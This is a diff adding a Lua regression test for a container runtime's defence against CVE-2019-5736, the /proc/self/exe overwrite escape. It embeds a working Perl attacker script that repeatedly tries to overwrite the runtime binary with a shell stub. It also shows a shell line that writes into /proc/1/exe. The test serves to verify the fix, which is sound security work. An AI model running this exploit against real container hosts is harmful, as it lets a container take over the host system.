@@ -1,0 +1,84 @@
+-- CVE-2019-5736: a container's root gets hold of tinylua's own program through /proc/PID/exe, by having it
+-- run itself while it enters the container, and writes to it once nobody runs it any more.
+local check = require "check"
+
+local OPEN = tonumber("755", 8)
+local function program(path) return tiny.read_file(path, { max = "256m" }) end
+
+-- A copy of the program that root may write: the one under test may lie where nobody can.
+local before = program("/proc/self/exe")
+local function run(copy, ...)
+  local words = { ... }
+  local from, into = tiny.pipe()
+  local child <close> = tiny.fork(function()
+    for number = 1, 2 do tiny.dup2(into, number) end
+    tiny.exec { copy, "--root", check.root, table.unpack(words) }
+  end)
+  into:close()
+  local text = ""
+  for bytes in function() return from:read() end do text = text .. bytes end
+  return child:wait(), text
+end
+
+-- Opens the program of every process that is ours, and writes to it as soon as that can be.
+local ATTACKER = ([[
+use Errno; use Time::HiRes "usleep"; $| = 1; my ($opened, %%why) = 0;
+my $end = time + 40;
+while (time < $end && !-e "/stop") {
+  for my $exe (glob "/proc/[0-9]*/exe") {
+    next if $exe eq "/proc/$$/exe";
+    open(my $f, "<", $exe) or next;
+    next unless (stat $f)[7] == %d;
+    $opened++;
+    for (1 .. 2000) {
+      if (open(my $w, "+<", "/proc/self/fd/" . fileno $f)) { print $w "#!/bin/sh\n"; close $w; $why{written}++; last }
+      if (!$!{ETXTBSY}) { $why{$!{EROFS} ? "EROFS" : $!{EPERM} ? "EPERM" : $! + 0}++; last }
+      usleep 500;
+    }
+  }
+}
+print "opened $opened ", join(" ", sort keys %%why), "\n";]]):format(#before)
+tiny.write_file("/tmp/attack.pl", ATTACKER)
+tiny.write_file("/tmp/script", "#!/proc/self/exe\n", { mode = OPEN })
+
+-- Enters the container with a copy of the program until the attacker has had its chance; tells what it got.
+local function attacked(copy, flag, value)
+  tiny.write_file(copy, before, { mode = OPEN })
+  check.succeeds("run", "-d", "--name", "c", "-v", "/tmp/attack.pl:/attack.pl:ro", "-v", "/tmp/script:/script:ro", "perl", "/attack.pl")
+  for _ = 1, 15 do
+    -- It runs itself there, by its name and as a script's interpreter, and fails for want of a command.
+    for _, words in ipairs { { "/script" }, { "/proc/self/exe" } } do run(copy, flag, value, "exec", "c", table.unpack(words)) end
+    if program(copy) ~= before then break end
+  end
+  check.succeeds("exec", "c", "touch", "/stop")
+  check.succeeds("wait", "c")
+  local opened, why = check.succeeds("logs", "c"):match("opened (%d+) (.-)\n")
+  print(("%s was opened %s times: %s"):format(copy, opened, why))
+  assert(tonumber(opened) > 0, "the attack did not get as far as it can")
+  check.succeeds("rm", "c")
+  return program(copy) ~= before, why
+end
+
+local overwritten, why = attacked("/tmp/tinylua", "--lua-path", "/tmp")
+assert(not overwritten, "the program was overwritten")
+check.equal(why, "EROFS")
+
+-- Without the seal the same attack succeeds: it is a real one.
+tiny.mkdir("/tmp/loose/scripts", { parents = true })
+tiny.write_file("/tmp/loose/scripts/exec.lua", (tiny.source("scripts/exec.lua", { shipped = true }):gsub("tiny%.seal%(%)", "")))
+check.equal(attacked("/tmp/tinylua-loose", "--lua-path", "/tmp/loose"), true, "without the seal")
+
+-- A PID 1 of ours beside the program.
+tiny.write_file("/tmp/tinylua", before, { mode = OPEN })
+local _, text = run("/tmp/tinylua", "run", "--rm", "--init", "sh", "-c", "for i in 1 2 3; do echo x > /proc/1/exe; done; head -c4 /proc/1/exe | wc -c")
+assert(text:match("0\n$"), text)
+assert(program("/tmp/tinylua") == before, "the program was overwritten")
+
+-- Where mounts may not be made it is a sealed copy in memory.
+tiny.write_file("/tmp/seal.lua", "tiny.seal() print(tiny.readlink('/proc/self/exe'))")
+check.inside({}, function()
+  tiny.set_caps { bounding = {}, permitted = {}, effective = {}, inheritable = {}, ambient = {} }
+  local _, where = run("/tmp/tinylua", "run", "/tmp/seal.lua")
+  check.equal(where, "/memfd:tinylua (deleted)\n")
+end)
+check.no_container()
